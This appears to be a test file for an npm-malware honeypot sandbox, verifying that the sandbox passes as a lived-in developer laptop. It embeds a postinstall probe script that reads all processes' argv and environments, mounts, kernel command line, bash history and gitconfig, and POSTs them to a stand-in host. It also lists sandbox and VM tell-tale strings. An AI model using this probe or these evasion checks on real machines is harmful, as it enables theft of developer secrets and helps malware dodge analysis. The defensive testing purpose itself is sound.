import { strict as assert } from 'node:assert';
import { mkdtemp, rm, writeFile } from 'node:fs/promises';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { after, describe, test } from 'node:test';
import { createPersona } from './layout.js';
import { processTree, treeProcesses } from './process-tree.js';
import { describeRun, ofKind, runFixture } from './test-support/fixtures.js';

// Runs inside the sandbox as an install script and reports everything malware reads to decide
// whether it is watched: every visible process (argv, name, environment, executable), the mount
// table, cgroups, hostname, kernel command line, uptime and the home directory.
const PROBE = `
const fs = require('fs');
const os = require('os');
const http = require('http');
const read = (p) => { try { return fs.readFileSync(p, 'utf8'); } catch (e) { return 'ERR ' + e.code; } };
const link = (p) => { try { return fs.readlinkSync(p); } catch (e) { return 'ERR ' + e.code; } };
const list = (p) => { try { return fs.readdirSync(p); } catch (e) { return []; } };
const processes = list('/proc').filter((n) => /^\\d+$/.test(n)).map((pid) => ({
  pid: Number(pid),
  cmdline: read('/proc/' + pid + '/cmdline').split('\\0').join(' ').trim(),
  comm: read('/proc/' + pid + '/comm').trim(),
  environ: read('/proc/' + pid + '/environ'),
  ppid: Number((read('/proc/' + pid + '/status').match(/PPid:\\s*(\\d+)/) || [])[1]),
}));
const report = {
  self: process.pid,
  processes,
  initExe: link('/proc/1/exe'),
  initStatus: read('/proc/1/status'),
  selfStatus: read('/proc/self/status'),
  mountinfo: read('/proc/self/mountinfo'),
  cgroup: read('/proc/self/cgroup'),
  kernelCmdline: read('/proc/cmdline'),
  hostname: os.hostname(),
  user: os.userInfo().username,
  home: list(os.homedir()),
  uptime: Number(read('/proc/uptime').split(' ')[0]),
  now: Date.now(),
  homeTimes: list(os.homedir()).map((n) => { try { return fs.statSync(os.homedir() + '/' + n).mtimeMs; } catch { return 0; } }),
  editorState: ['.viminfo', '.config/Code/User/settings.json'].filter((p) => fs.existsSync(os.homedir() + '/' + p)),
  history: read(os.homedir() + '/.bash_history'),
  gitconfig: read(os.homedir() + '/.gitconfig'),
};
const req = http.request({ host: 'stealth.test', port: 80, path: '/report', method: 'POST', timeout: 5000 }, (r) => r.resume());
req.on('error', () => {});
req.end(JSON.stringify(report));
`;

interface Report {
  self: number;
  processes: { pid: number; cmdline: string; comm: string; environ: string; ppid: number }[];
  initExe: string;
  initStatus: string;
  selfStatus: string;
  mountinfo: string;
  cgroup: string;
  kernelCmdline: string;
  hostname: string;
  user: string;
  home: string[];
  uptime: number;
  now: number;
  homeTimes: number[];
  editorState: string[];
  history: string;
  gitconfig: string;
}

const TELL_TALES = /bwrap|bubblewrap|newroot|sandbox|secure-registry|strace|honeypot|sr-fs-|sr-host-/i;
/** Names of the virtual machines and containers analysis runs in, which a laptop's boot line has none of. */
const HOSTING_TELLS = /firecracker|process_api|docker|containerd|kubepods|lxc|gvisor|runsc|qemu|vsock/i;

describe('sandbox: the honeypot looks like a developer machine', () => {
  const dirs: string[] = [];
  after(async () => {
    for (const dir of dirs) await rm(dir, { recursive: true, force: true });
  });

  test('no process, mount, cgroup or name gives the sandbox away, and no honeytoken is out of place', async () => {
    const dir = await mkdtemp(join(tmpdir(), 'sr-stealth-'));
    dirs.push(dir);
    await writeFile(
      join(dir, 'package.json'),
      JSON.stringify({ name: 'env-probe', version: '1.0.0', scripts: { postinstall: 'node probe.js' } }),
    );
    await writeFile(join(dir, 'probe.js'), PROBE);
    const run = await runFixture(dir, 'install', { graceMs: 300 });
    assert.equal(run.status, 'completed', describeRun(run));
    const event = ofKind(run, 'http').find((e) => e.host === 'stealth.test');
    assert.ok(event, describeRun(run));
    const report = JSON.parse(event.body) as Report;

    // The probe's own ancestry: the processes a real developer's shell would have exported the
    // tokens to (npm and the lifecycle shell). Everything else must not carry them.
    const byPid = new Map(report.processes.map((p) => [p.pid, p]));
    const ancestry = new Set<number>();
    for (let pid = report.self; pid > 0 && !ancestry.has(pid); pid = byPid.get(pid)?.ppid ?? 0)
      ancestry.add(pid);
    const secrets = run.honeytokens.map((t) => t.value).filter((value) => value.length >= 8);
    assert.ok(secrets.length > 0);
    for (const proc of report.processes) {
      for (const secret of secrets) {
        assert.ok(
          !proc.cmdline.includes(secret),
          `pid ${proc.pid} (${proc.comm}) carries a honeytoken in its argv: ${proc.cmdline.slice(0, 200)}`,
        );
        if (!ancestry.has(proc.pid) || proc.pid === 1)
          assert.ok(
            !proc.environ.includes(secret),
            `pid ${proc.pid} (${proc.comm}) carries a honeytoken in its environment`,
          );
      }
      assert.doesNotMatch(`${proc.cmdline}\n${proc.comm}`, TELL_TALES, `pid ${proc.pid} names the sandbox`);
      assert.doesNotMatch(
        proc.pid === report.self ? '' : proc.environ,
        TELL_TALES,
        `pid ${proc.pid}'s environment names the sandbox`,
      );
    }
    // The mount table: `/` is a file system's own root (not bubblewrap's /newroot) and every mount
    // shows the path it is mounted at (node, npm's support packages and node-gyp's headers come
    // from a file system of their own, static-layer.ts), never a directory of the host.
    const mounts = report.mountinfo
      .split('\n')
      .filter(Boolean)
      .map((line) => line.split(' '))
      .map(([, , , root = '', point = '']) => ({ root, point }));
    assert.deepEqual(
      mounts.find((m) => m.point === '/'),
      { root: '/', point: '/' },
      report.mountinfo,
    );
    for (const { root, point } of mounts) {
      assert.ok(
        root === point || root === '/' || point.startsWith('/dev/'),
        `${point} is mounted from ${root}`,
      );
      assert.doesNotMatch(`${root} ${point}`, TELL_TALES);
    }
    assert.doesNotMatch(report.cgroup, TELL_TALES, 'cgroup paths name the sandbox');
    assert.doesNotMatch(report.kernelCmdline, TELL_TALES);
    // The kernel command line of a desktop installation, not the host's (a VM's, a CI runner's).
    assert.doesNotMatch(report.kernelCmdline, HOSTING_TELLS, report.kernelCmdline);
    assert.match(report.kernelCmdline, /^BOOT_IMAGE=\S+ root=\S+ ro /, report.kernelCmdline);
    assert.doesNotMatch(`${report.hostname} ${report.user}`, TELL_TALES);
    // PID 1 is root's init, closed to the developer as on a real machine (not the tool that built
    // the sandbox, not owned by the package's user). Not yet: uname's release is the host's,
    // /proc/cmdline is a visible bind mount, /proc/self/uid_map shows the mapping.
    const init = byPid.get(1);
    assert.ok(init, 'PID 1 is visible');
    assert.match(init.comm, /^(init|systemd)$/, `PID 1 is ${init.comm}`);
    assert.equal(init.cmdline, '/sbin/init');
    assert.match(report.initStatus, /^Uid:\s+0\s+0\s+0\s+0$/m, 'PID 1 runs as root');
    assert.equal(report.initExe, 'ERR EACCES', `/proc/1/exe reads ${report.initExe}`);
    assert.ok(init.environ.startsWith('ERR '), "PID 1's environment is closed");
    // The package runs as the developer, with no capability at all.
    assert.match(report.selfStatus, /^Uid:\s+1000\s/m);
    assert.match(report.selfStatus, /^CapEff:\s+0+$/m);
    assert.match(report.selfStatus, /^CapPrm:\s+0+$/m);
    assert.match(report.selfStatus, /^CapAmb:\s+0+$/m);
    // A desktop session in use, and the package's ancestry an ordinary one: npm in bash in a
    // terminal in the user's session, all below init.
    assert.ok(report.processes.length >= 40, `${report.processes.length} processes`);
    assert.ok(report.processes.filter((p) => p.pid < 1000).length >= 10, 'system services');
    const names = [...ancestry].map((pid) => byPid.get(pid)?.comm ?? '?');
    const npmAt = names.findIndex((n) => /^npm/.test(n));
    assert.ok(npmAt > 0, names.join(' < '));
    assert.deepEqual(
      names.slice(npmAt + 1),
      ['bash', 'gnome-terminal-', 'systemd', 'systemd'],
      names.join(' < '),
    );
    // Every process of the desktop at its planned pid, with its name: the runner starts only once
    // the whole tree is up (before, node's threads took pids planned for the rest); the host tells
    // the package's processes from the desktop's by these pids (quiescence.ts).
    const planned = treeProcesses(processTree(createPersona())).filter((p) => !p.runner);
    for (const want of planned)
      assert.equal(byPid.get(want.pid)?.comm, want.comm, `pid ${want.pid} is ${want.comm}`);
    assert.match(run.details.join('\n'), /grace \d+ ms \(nothing of the package left\)/);
    for (const proc of report.processes.filter((p) => !ancestry.has(p.pid)))
      assert.ok(
        proc.environ === '' || proc.environ.startsWith('ERR '),
        `pid ${proc.pid} (${proc.comm}) shows its environment`,
      );
    // A lived-in home: shell history and a git identity.
    assert.ok(report.history.split('\n').filter(Boolean).length >= 50, 'weeks of shell history');
    assert.match(report.gitconfig, /\[user\]/);
    assert.ok(report.editorState.length > 0, 'an editor has been used');
    // A laptop up for days, not a runner or VM booted minutes ago (the host here may be either).
    assert.ok(report.uptime > 3 * 86_400, `uptime ${report.uptime} s`);
    // A home older than the boot (uptime): most of it last changed before the machine started,
    // nothing in the future, and at least one file touched within the last weeks.
    const bootedAt = report.now - report.uptime * 1000;
    const beforeBoot = report.homeTimes.filter((t) => t < bootedAt).length;
    assert.ok(
      beforeBoot * 2 >= report.homeTimes.length,
      `${beforeBoot}/${report.homeTimes.length} home entries predate the boot`,
    );
    assert.ok(
      report.homeTimes.every((t) => t <= report.now + 1000),
      'no home entry is dated in the future',
    );
    assert.ok(
      report.homeTimes.some((t) => t > report.now - 30 * 86_400_000),
      'the home is in use',
    );
  });
});
